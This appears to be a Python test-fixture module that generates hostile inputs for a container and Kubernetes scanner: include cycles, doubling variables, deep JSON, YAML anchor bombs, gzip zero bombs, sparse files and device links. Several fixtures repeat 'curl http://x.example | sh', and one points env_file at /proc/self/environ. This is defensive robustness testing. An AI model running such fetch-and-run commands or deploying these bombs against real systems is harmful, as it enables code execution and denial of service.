"""Hostile Compose files, Dockerfiles, reports, images and things that are no files. Made at run time."""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
from collections.abc import Callable
from pathlib import Path

from _hostile_objects import listed, mapped

Make = Callable[[Path], None]
DIGEST = "a" * 64
SPDX = {"spdxVersion": "SPDX-2.3", "SPDXID": "SPDXRef-DOCUMENT", "name": "x", "dataLicense": "CC0-1.0", "documentNamespace": "https://x.example"}


def text(name: str, content: Callable[[], str]) -> Make:
    """Write one file."""
    return files(lambda: {name: content()})


def files(contents: Callable[[], dict[str, str]]) -> Make:
    """Write several files."""

    def make(folder: Path) -> None:
        for name, content in contents().items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(content, encoding="utf-8", errors="surrogateescape")

    return make


def service(part: str) -> str:
    """Write a Compose file of one service with a part of its own."""
    return f"services:\n  s:\n    image: a/b:1\n    {part}\n"


def _chain(count: int) -> dict[str, str]:
    """Compose files of which each includes the next two: 2ⁿ ways through them."""
    found = {
        f"c{at}/compose.yaml": f"include: [../c{at + 1}/compose.yaml, ../c{at + 1}/compose.yaml, ../c{at + 2}/compose.yaml]\nservices: {{s{at}: {{image: a/b}}}}\n"
        for at in range(count)
    }
    return found | {f"c{at}/compose.yaml": "services: {z: {image: a/b}}\n" for at in (count, count + 1)}


def _extending(count: int) -> str:
    return (
        "services:\n"
        + "".join(f"  s{at}: {{image: a/b, extends: {{service: s{at + 1}}}}}\n" for at in range(count))
        + f"  s{count}: {{image: a/b}}\n"
    )


def _graph(count: int) -> str:
    inner = "".join(f"  s{at}: {{image: a/b, depends_on: {listed('s{0}', count)}}}\n" for at in range(count))
    return f"services:\n{inner}"


COMPOSES: dict[str, Make] = {
    "includes that double": files(lambda: _chain(60)),
    "an include of itself": text("compose.yaml", lambda: "include: [compose.yaml, ./compose.yaml, ././compose.yaml]\nservices: {s: {image: a/b}}\n"),
    "extends in a circle": text(
        "compose.yaml", lambda: "services:\n  a: {image: x, extends: b}\n  b: {image: x, extends: c}\n  c: {image: x, extends: a}\n"
    ),
    "extends in a chain": text("compose.yaml", lambda: _extending(15_000)),
    "extends over files": files(
        lambda: {
            f"c{at}/compose.yaml": f"services: {{s: {{image: a, extends: {{file: ../c{at + 1}/compose.yaml, service: s}}}}}}\n" for at in range(800)
        }
    ),
    "volumes_from in a circle": text(
        "compose.yaml",
        lambda: (
            "services:\n" + "".join(f"  s{at}: {{image: a, volumes: ['/h{at}:/x{at}'], volumes_from: [s{(at + 1) % 3000}]}}\n" for at in range(3_000))
        ),
    ),
    "volumes_from in a chain": text(
        "compose.yaml",
        lambda: "services:\n" + "".join(f"  s{at}: {{image: a, volumes: ['/h{at}:/x{at}'], volumes_from: [s{at + 1}]}}\n" for at in range(3_000)),
    ),
    "everybody depends on everybody": text("compose.yaml", lambda: _graph(350)),
    "15,000 services": text("compose.yaml", lambda: "services:\n" + "".join(f"  s{at}: {{image: 'a/b{at}:1'}}\n" for at in range(15_000))),
    "services of a long name": text("compose.yaml", lambda: f"services:\n  {'s' * 900_000}: {{image: a/b}}\n"),
    "a long command": text("compose.yaml", lambda: service(f"command: {'x ' * 400_000}")),
    "a command of variables": text("compose.yaml", lambda: service("command: " + "${A:-" * 100_000 + "}" * 100_000)),
    "variables one beside another": text("compose.yaml", lambda: service("command: '" + "${A:-b}" * 100_000 + "'")),
    "a huge .env": files(
        lambda: {
            ".env": "".join(f"V{at}=${{V{at - 1}}}${{V{at - 1}}}\n" for at in range(30_000)),
            "compose.yaml": service("environment: {A: '${V29999}'}"),
        }
    ),
    "a doubling .env": files(
        lambda: {
            ".env": "V0=aaaaaaaaaa\n" + "".join(f"V{at}=${{V{at - 1}}}${{V{at - 1}}}\n" for at in range(1, 64)),
            "compose.yaml": service("environment: {A: '${V63}'}"),
        }
    ),
    "a long line of .env": files(lambda: {".env": "A=" + "x" * 900_000, "compose.yaml": service("command: ${A} ${A} ${A}\n    image: ${A}")}),
    "one variable a thousand times": files(lambda: {".env": "A=" + "x" * 400_000, "compose.yaml": service("command: '" + "${A}" * 100_000 + "'")}),
    "ports of a range": text("compose.yaml", lambda: service("ports: ['1-65535:1-65535', '1-65535:1-65535/udp']")),
    "ports": text("compose.yaml", lambda: service("ports: " + listed("'{0}:{0}'", 50_000))),
    "volumes": text("compose.yaml", lambda: service("volumes: " + listed("'/a{0}:/b{0}'", 40_000))),
    "labels": text("compose.yaml", lambda: service("labels: " + mapped("l{0}: v", 70_000))),
    "variables": text("compose.yaml", lambda: service("environment: " + mapped("V{0}: v", 70_000))),
    "passwords": text("compose.yaml", lambda: service("environment: " + mapped("PASSWORD{0}: hunter{0}", 30_000))),
    "env_file everywhere": files(
        lambda: {
            "e.env": "".join(f"V{at}=x\n" for at in range(20_000)),
            "compose.yaml": "services:\n" + "".join(f"  s{at}: {{image: a, env_file: e.env}}\n" for at in range(8_000)),
        }
    ),
    "one anchor in every service": text(
        "compose.yaml",
        lambda: (
            "x-a: &a " + mapped("V{0}: v", 2_000) + "\nservices:\n" + "".join(f"  s{at}: {{image: a, environment: *a}}\n" for at in range(10_000))
        ),
    ),
    "durations": text("compose.yaml", lambda: service("healthcheck: {test: [CMD, x], interval: " + "1h1m1s" * 100_000 + "}")),
    "100 Compose files of one project": files(lambda: {f"compose.{at}.yaml": service("labels: " + mapped("l{0}: v", 500)) for at in range(100)}),
}


def _stages(count: int) -> str:
    return "FROM a AS s0\nENV A=b\n" + "".join(f"FROM s{at} AS s{at + 1}\nENV V{at}=x\n" for at in range(count))


def _copies(count: int) -> str:
    return "FROM a AS s0\n" + "".join(f"FROM b AS s{at + 1}\nCOPY --from=s{at} / /\n" for at in range(count))


DOCKERFILES: dict[str, Make] = {
    "a huge heredoc": text("Dockerfile", lambda: "FROM a\nRUN <<E\n" + "echo a && curl http://x.example | sh\n" * 25_000 + "E\n"),
    "heredocs without an end": text("Dockerfile", lambda: "FROM a\nRUN " + "<<E " * 200_000 + "\n"),
    "many heredocs": text("Dockerfile", lambda: "FROM a\n" + "COPY <<A <<B /\nx\nA\ny\nB\n" * 40_000),
    "a doubling ARG": text(
        "Dockerfile",
        lambda: (
            "FROM a\nARG V0=aaaaaaaaaa\n"
            + "".join(f"ARG V{at}=${{V{at - 1}}}${{V{at - 1}}}\n" for at in range(1, 64))
            + "RUN echo ${V63}\nUSER ${V63}\n"
        ),
    ),
    "ENV of ENV": text("Dockerfile", lambda: "FROM a\n" + "ENV A=${A}${A}b\n" * 60_000 + "USER ${A}\n"),
    "nested defaults": text("Dockerfile", lambda: "FROM a\nUSER " + "${A:-" * 100_000 + "x" + "}" * 100_000 + "\n"),
    "patterns of ARG": text(
        "Dockerfile",
        lambda: "ARG A=" + "a" * 5_000 + "\nFROM a\nARG A\n" + "ENV B=${A%%" + "*a" * 2_000 + "b}\n" + "ENV C=${A//" + "*a" * 1_000 + "/b}\n",
    ),
    "one long RUN": text("Dockerfile", lambda: "FROM a\nRUN " + "pip install x && " * 50_000 + "true\n"),
    "one long RUN over lines": text("Dockerfile", lambda: "FROM a\nRUN true \\\n" + "  && pip install x==1 y \\\n" * 35_000 + "  && true\n"),
    "brackets of the shell": text("Dockerfile", lambda: "FROM a\nRUN " + "(" * 400_000 + ")" * 400_000 + "\n"),
    "substitutions of the shell": text("Dockerfile", lambda: "FROM a\nRUN echo " + "$(echo " * 120_000 + ")" * 120_000 + "\n"),
    "quotes of the shell": text("Dockerfile", lambda: "FROM a\nRUN echo " + "'\"" * 400_000 + "\n"),
    "ifs of the shell": text("Dockerfile", lambda: "FROM a\nRUN " + "if true; then " * 50_000 + "true" + "; fi" * 50_000 + "\n"),
    "sh -c in sh -c": text("Dockerfile", lambda: "FROM a\nRUN " + "sh -c " * 150_000 + "true\n"),
    "env and sudo": text("Dockerfile", lambda: "FROM a\nRUN " + "sudo env A=b " * 60_000 + "pip install x\n"),
    "downloads": text("Dockerfile", lambda: "FROM a\nRUN " + " && ".join(f"curl -o f{at} http://x.example/{at}" for at in range(15_000)) + "\n"),
    "downloads and sums": text(
        "Dockerfile",
        lambda: "FROM a\n" + "".join(f"RUN curl -o f{at} http://x.example/{at} && echo 'aa  f{at}' | sha256sum -c\n" for at in range(9_000)),
    ),
    "packages": text("Dockerfile", lambda: "FROM a\nRUN apt-get install -y " + " ".join(f"p{at}" for at in range(120_000)) + "\n"),
    "stages on stages": text("Dockerfile", lambda: _stages(15_000)),
    "copies of copies": text("Dockerfile", lambda: _copies(15_000)),
    "instructions": text("Dockerfile", lambda: "FROM a\n" + "USER 1\n" * 120_000),
    "100,000 instructions that are none": text("Dockerfile", lambda: "FROM a\n" + "FOO 1\n" * 120_000),
    "labels": text("Dockerfile", lambda: "FROM a\n" + "".join(f"LABEL l{at}=v\n" for at in range(60_000))),
    "ports": text("Dockerfile", lambda: "FROM a\nEXPOSE " + " ".join(map(str, range(1, 65_000))) + "\n"),
    "a name of a stage": text("Dockerfile", lambda: f"FROM a AS {'s' * 900_000}\n"),
    "a name of an image": text("Dockerfile", lambda: f"FROM {'a/' * 400_000}b\n"),
    "continued lines": text("Dockerfile", lambda: "FROM a\nRUN a \\\n" + "\\\n" * 400_000),
    "comments": text("Dockerfile", lambda: "FROM a\nRUN a \\\n" + "# x\\\n" * 180_000 + "b\n"),
    "ONBUILD of ONBUILD": text("Dockerfile", lambda: "FROM a\n" + "ONBUILD " * 100_000 + "RUN a\n"),
    "lists that name lists": files(
        lambda: {
            "Dockerfile": "FROM a\nCOPY . .\nRUN pip install -r r0.txt\n",
            **{f"r{at}.txt": f"-r r{at + 1}.txt\n-r r{at + 2}.txt\nx==1\n" for at in range(300)},
        }
    ),
    "a list that names itself": files(lambda: {"Dockerfile": "FROM a\nCOPY . .\nRUN pip install -r r.txt\n", "r.txt": "-r r.txt\n" * 60_000}),
    "lists named often": files(lambda: {"Dockerfile": "FROM a\nCOPY . .\n" + "RUN pip install -r r.txt\n" * 5_000, "r.txt": "x\n" * 100_000}),
    "a list of brackets": files(lambda: {"Dockerfile": "FROM a\nCOPY . .\nRUN pip install -r r.txt\n", "r.txt": "x[" + "a," * 400_000}),
    "ignore files of stars": files(
        lambda: {"Dockerfile": "FROM a\nCOPY . .\n", ".dockerignore": "**/*a*" * 5_000 + "b\n" + "*a*a*a*a*a*a*a*b\n" * 20_000, "a" * 100: "x"}
    ),
    "Git's ignore files of stars": files(
        lambda: {
            ".gitignore": ("*a" * 60 + "b\n") * 3_000 + "**/" * 20_000 + "x\n",
            **{f"{'a' * 100}{at}": "" for at in range(100)},
            "d/.gitignore": "!(a)[" * 10_000,
        }
    ),
    "an Apptainer definition": text(
        "a.def", lambda: "Bootstrap: docker\nFrom: a\n%post\n" + "pip install {{ x }} && curl http://x.example | sh\n" * 18_000
    ),
    "Apptainer's sections": text("a.def", lambda: "Bootstrap: docker\nFrom: a\n" + "%post\n%files from x\n" * 45_000),
    "Apptainer's variables": text(
        "a.def",
        lambda: (
            "Bootstrap: docker\nFrom: a\n%arguments\n"
            + "".join(f" V{at}={{{{ V{at - 1} }}}}{{{{ V{at - 1} }}}}\n" for at in range(1, 30_000))
            + "%post\n x {{ V29999 }}\n"
        ),
    ),
}


def _trivy(count: int) -> str:
    found = [
        {"VulnerabilityID": f"CVE-{at}", "PkgName": "p", "InstalledVersion": "1", "Severity": "HIGH", "FixedVersion": "2"} for at in range(count)
    ]
    return json.dumps({"SchemaVersion": 2, "ArtifactName": "a/b:1", "Results": [{"Target": "x", "Class": "os-pkgs", "Vulnerabilities": found}]})


def _grype(count: int) -> str:
    match = {"vulnerability": {"id": "CVE-1", "severity": "High"}, "artifact": {"name": "p", "version": "1"}}
    return json.dumps(
        {"matches": [match] * count, "source": {"type": "image", "target": {"userInput": "a/b:1"}}, "descriptor": {"name": "grype", "version": "1"}}
    )


def _sarif(count: int) -> str:
    rules = [{"id": f"CVE-{at}", "properties": {"security-severity": "9"}} for at in range(count)]
    return json.dumps(
        {
            "version": "2.1.0",
            "runs": [
                {"tool": {"driver": {"name": "Trivy", "rules": rules}}, "results": [{"ruleId": f"CVE-{at}", "ruleIndex": at} for at in range(count)]}
            ],
        }
    )


def _cyclonedx(count: int) -> str:
    return json.dumps(
        {
            "bomFormat": "CycloneDX",
            "specVersion": "1.5",
            "components": [{"type": "library", "name": f"p{at}", "version": "1"} for at in range(count)],
        },
        separators=(",", ":"),
    )


def _nested_components(depth: int) -> str:
    return '{"bomFormat":"CycloneDX","specVersion":"1.5","components":[' + '{"type":"library","name":"p","components":[' * depth + "]}" * depth + "]}"


def _spdx(count: int) -> str:
    return json.dumps(
        SPDX | {"packages": [{"name": f"p{at}", "SPDXID": f"S{at}", "versionInfo": "1"} for at in range(count)], "relationships": []},
        separators=(",", ":"),
    )


REPORTS: dict[str, Make] = {
    "JSON depth": text("x.json", lambda: "[" * 450_000 + "]" * 450_000),
    "JSON depth of objects": text("x.json", lambda: '{"a":' * 150_000 + "1" + "}" * 150_000),
    "JSON depth in a scan": text("x.json", lambda: '{"SchemaVersion": 2, "Results": ' + "[" * 400_000 + "]" * 400_000 + "}"),
    "a long number": text("x.json", lambda: '{"bomFormat": "CycloneDX", "version": ' + "9" * 900_000 + "}"),
    "one key often": text("x.json", lambda: '{"SchemaVersion": 2, ' + '"Results": [], ' * 55_000 + '"ArtifactName": "x"}'),
    "findings of Trivy": text("x.json", lambda: _trivy(8_000)),
    "findings of Grype": text("x.json", lambda: _grype(8_000)),
    "findings of SARIF": text("x.sarif", lambda: _sarif(8_000)),
    "15,000 components": text("bom.json", lambda: _cyclonedx(15_000)),
    "nested components": text("bom.json", lambda: _nested_components(20_000)),
    "packages of SPDX": text("bom.spdx.json", lambda: _spdx(15_000)),
    "lines of SPDX": text("bom.spdx", lambda: "SPDXVersion: SPDX-2.3\n" + "PackageName: x\nPackageVersion: 1\n" * 28_000),
    "300 reports of one image": files(lambda: {f"r{at}.json": _trivy(10).replace("CVE-1", f"CVE-{at}") for at in range(500)}),
    "a chart's metadata": files(
        lambda: {
            "Chart.yaml": "apiVersion: v2\nname: " + "x" * 400_000 + "\nversion: 1\ndependencies: " + listed("{{name: d{0}}}", 20_000),
            "templates/a.yaml": "{{ x }}\n" * 10_000,
        }
    ),
    "1,000 templates of a chart": files(
        lambda: {
            "Chart.yaml": "apiVersion: v2\nname: x\nversion: 1\n",
            **{f"templates/a{at}.yaml": "{{ if .x }}\nkind: Pod\n{{ end }}\n" for at in range(1_000)},
        }
    ),
    "kustomizations of kustomizations": files(
        lambda: {f"k{at}/kustomization.yaml": f"resources: [../k{at + 1}, ../k{at + 2}, ../k{(at + 3) % 700}]\nnamePrefix: x\n" for at in range(700)}
    ),
    "a kustomization of everything": files(
        lambda: {"kustomization.yaml": "resources: " + listed("r{0}.yaml", 50_000) + "\nimages: " + listed("{{name: a{0}}}", 10_000)}
    ),
    "a kustomization of itself": files(
        lambda: {"kustomization.yaml": "resources: [., ./., ../in, a]\nnamePrefix: x\n", "a/kustomization.yaml": "resources: [..]\n"}
    ),
    "2,000 folders": files(
        lambda: {
            f"d{at % 40}/e{at}/x.yaml": f"apiVersion: v1\nkind: Pod\nmetadata: {{name: p{at % 50}}}\nspec: {{containers: [{{name: c, image: a}}]}}\n"
            for at in range(2_000)
        }
    ),
    "2,000 environments": files(
        lambda: {
            f"env{at}/prod/x.yaml": f"apiVersion: apps/v1\nkind: Deployment\nmetadata: {{name: p}}\nspec: {{template: {{spec: {{containers: [{{name: c, image: 'a:{at}'}}]}}}}}}\n"
            for at in range(2_000)
        }
    ),
    "a deep folder": files(lambda: {"/".join(["d"] * 800) + "/x.yaml": "a: 1\n"}),
    "names of control characters": files(
        lambda: {
            f"a\x1b[31m\n{at}\u202e.yaml": 'apiVersion: v1\nkind: Pod\nmetadata: {name: "\\e[2J\\u202e\\x9b"}\nspec: {containers: [{name: "\\0\\a", image: "a\\u0085b"}]}\n'
            for at in range(500)
        }
    ),
    "bytes that are no text": text("x.yaml", lambda: "apiVersion: v1\nkind: Pod\nmetadata: {name: " + "\udcff" * 400_000 + "}\n"),
    "half a million combining marks": text(
        "x.yaml", lambda: "apiVersion: v1\nkind: Pod\nmetadata: {name: a" + "\u0301" * 300_000 + "}\nspec: {containers: [{name: c, image: a}]}\n"
    ),
    "its own configuration": text("aiact-report.yaml", lambda: "system: {name: " + "x" * 800_000 + "}\n"),
    "evidence of another run": text("evidence.json", lambda: '{"schema":"2.0.0","subjects":[' + '{"id":"x","kind":"pod"},' * 30_000 + "{}]}"),
}


def _tar(members: dict[str, bytes]) -> bytes:
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w") as archive:
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return into.getvalue()


def _archive(layer: bytes, config: bytes | None = None) -> bytes:
    """Make what `docker save` writes, around one layer."""
    said = (
        config
        or json.dumps({"architecture": "amd64", "os": "linux", "config": {}, "rootfs": {"type": "layers", "diff_ids": ["sha256:" + DIGEST]}}).encode()
    )
    return _tar(
        {"manifest.json": json.dumps([{"Config": "c.json", "RepoTags": ["a/b:1"], "Layers": ["l.tar"]}]).encode(), "c.json": said, "l.tar": layer}
    )


def _zeros(count: int) -> bytes:
    """Give a gzip stream of so many megabytes of zeros."""
    into = io.BytesIO()
    with gzip.GzipFile(fileobj=into, mode="wb") as stream:
        for _ in range(count):
            stream.write(bytes(1_000_000))
    return into.getvalue()


def _layer_of_names(count: int) -> bytes:
    return gzip.compress(_tar({f"d/{at:06}": b"" for at in range(count)}))


def _image(data: Callable[[], bytes]) -> Make:
    def make(folder: Path) -> None:
        (folder / "image.tar").write_bytes(data())

    return make


def _config(**said: object) -> bytes:
    return json.dumps({"architecture": "amd64", "os": "linux", "config": said, "rootfs": {"type": "layers", "diff_ids": []}}).encode()


IMAGES: dict[str, Make] = {
    "a layer of 600 MB of zeros": _image(lambda: _archive(_zeros(600))),
    "a file of 600 MB of zeros": _image(lambda: _archive(gzip.compress(_tar({"model.safetensors": bytes(600_000_000)}), 1))),
    "a pickle of 300 MB": _image(lambda: _archive(gzip.compress(_tar({"model.pkl": b"\x80\x04" + b"K\x01" * 150_000_000 + b"."}), 1))),
    "a database of 100 MB": _image(
        lambda: _archive(gzip.compress(_tar({"var/lib/dpkg/status": b"Package: a\nStatus: install ok installed\nVersion: 1\n\n" * 2_000_000}), 1))
    ),
    "300,000 files": _image(lambda: _archive(_layer_of_names(200_000))),
    "a configuration of variables": _image(lambda: _archive(b"", _config(Env=[f"V{at}=x" for at in range(60_000)]))),
    "a configuration of labels": _image(lambda: _archive(b"", _config(Labels={f"l{at}": "x" for at in range(60_000)}))),
    "a configuration of one long label": _image(
        lambda: _archive(b"", _config(Labels={"version": "x" * 800_000}, User="u" * 50_000, Cmd=["c" * 40_000]))
    ),
    "a configuration of depth": _image(lambda: _archive(b"", b'{"config":' + b"[" * 400_000 + b"]" * 400_000 + b"}")),
    "history": _image(
        lambda: _archive(
            b"",
            json.dumps(
                {"config": {}, "history": [{"created_by": f"RUN pip install x{at} && curl http://x.example | sh"} for at in range(9_000)]}
            ).encode(),
        )
    ),
    "tar in tar": _image(lambda: _tar({"manifest.json": _tar({"x": b"y" * 100_000})})),
    "an archive of names": _image(lambda: _tar({f"{at}.json": b"{}" for at in range(800)})),
}


def _links(folder: Path) -> None:
    for at in range(3_000):
        (folder / f"l{at}.yaml").symlink_to(f"l{at + 1}.yaml" if at % 2 else "/dev/zero")


def _pipes(folder: Path) -> None:
    for name in (
        "compose.yaml",
        ".env",
        "Dockerfile",
        ".dockerignore",
        ".gitignore",
        "Chart.yaml",
        "kustomization.yaml",
        "requirements.txt",
        "bom.json",
        "aiact-report.yaml",
    ):
        os.mkfifo(folder / name)
    (folder / "sub").mkdir()
    (folder / "sub" / "Dockerfile").write_text("FROM a\nCOPY . .\nRUN pip install -r r.txt\n")
    os.mkfifo(folder / "sub" / "r.txt")
    os.mkfifo(folder / "sub" / "Dockerfile.dockerignore")
    (folder / "sub" / "compose.yaml").write_text(
        "include: [p.yaml]\nservices: {s: {image: a, env_file: [p.env], label_file: p.env, extends: {file: p.yaml, service: x}}}\n"
    )
    for name in ("p.yaml", "p.env", ".env"):
        os.mkfifo(folder / "sub" / name)


def _devices(folder: Path) -> None:
    (folder / "compose.yaml").write_text(
        "include: [/dev/zero, zero.yaml]\nservices: {s: {image: a, env_file: [/dev/zero, /dev/stdin, /proc/self/environ], extends: {file: /dev/urandom, service: x}}}\n"
    )
    for name in ("zero.yaml", ".env", ".gitignore", ".dockerignore", "requirements.txt", "Chart.yaml"):
        (folder / name).symlink_to("/dev/zero")
    (folder / "Dockerfile").write_text("FROM a\nCOPY . .\nRUN pip install -r requirements.txt -r /dev/zero\n")


def _sparse(folder: Path) -> None:
    for name in ("big.yaml", "big.json", "Dockerfile", "bom.spdx.json", ".env", ".gitignore", ".dockerignore", "Chart.yaml", "aiact-report.yaml"):
        with (folder / name).open("wb") as file:
            file.truncate(40_000_000_000)
    for name in ("under.yaml", "under.json", "compose.yaml"):
        with (folder / name).open("wb") as file:
            file.truncate(31_000_000)


def _kubeconfig(content: str) -> Make:
    def make(folder: Path) -> None:
        (folder / "kubeconfig").write_text(content)

    return make


CONTEXT = "apiVersion: v1\nkind: Config\ncurrent-context: x\ncontexts: [{name: x, context: {cluster: c, user: u}}]\nclusters: [{name: c, cluster: {server: 'http://127.0.0.1:9'}}]\n"

THINGS: dict[str, Make] = {
    "links": _links,
    "pipes": _pipes,
    "devices": _devices,
    "sparse files": _sparse,
}
KUBECONFIGS: dict[str, Make] = {
    "a token file that is a device": _kubeconfig(CONTEXT + "users: [{name: u, user: {tokenFile: /dev/zero}}]\n"),
    "a certificate that is a device": _kubeconfig(
        CONTEXT.replace("{server", "{certificate-authority: /dev/zero, server")
        + "users: [{name: u, user: {client-certificate: /dev/zero, client-key: /dev/zero}}]\n"
    ),
    "a plug-in that prints for ever": _kubeconfig(
        CONTEXT + "users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: cat, args: [/dev/zero]}}}]\n"
    ),
    "contexts without number": _kubeconfig(CONTEXT + "users: " + listed("{{name: u{0}}}", 40_000) + "\n"),
    "a bomb": _kubeconfig(
        "x-0: &x0 [a, a, a, a, a, a, a, a, a]\n" + "".join(f"x-{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 9)}]\n" for n in range(1, 12))
    ),
    "depth": _kubeconfig("contexts: " + "[" * 400_000),
}
